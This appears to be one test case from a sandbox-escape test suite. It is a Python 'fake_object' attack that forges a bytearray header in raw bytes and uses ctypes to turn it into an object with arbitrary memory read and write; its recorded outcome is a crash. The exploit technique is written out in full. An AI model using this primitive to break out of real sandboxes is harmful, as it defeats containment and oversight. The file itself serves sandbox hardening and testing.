"""what: Builds in bytes an object that reaches the whole address space, and reads and writes where nothing is its own.
origin: ours
outcome: crashed
reason: SIGSEGV
"""


class Attack(Hostile):
    name = "fake_object"

    def attack(self, context, given):
        ctypes = reach("ctypes")
        fake = (
            (1 << 20).to_bytes(8, "little")
            + id(bytearray).to_bytes(8, "little")
            + ((1 << 62) - 1).to_bytes(8, "little")
        )
        fake += (1 << 62).to_bytes(8, "little") + bytes(8) + bytes(8) + bytes(8)
        memory = ctypes.cast(id(fake) + 32, ctypes.py_object).value
        memory[1 << 46] = 1
        return "ESCAPED: wrote"
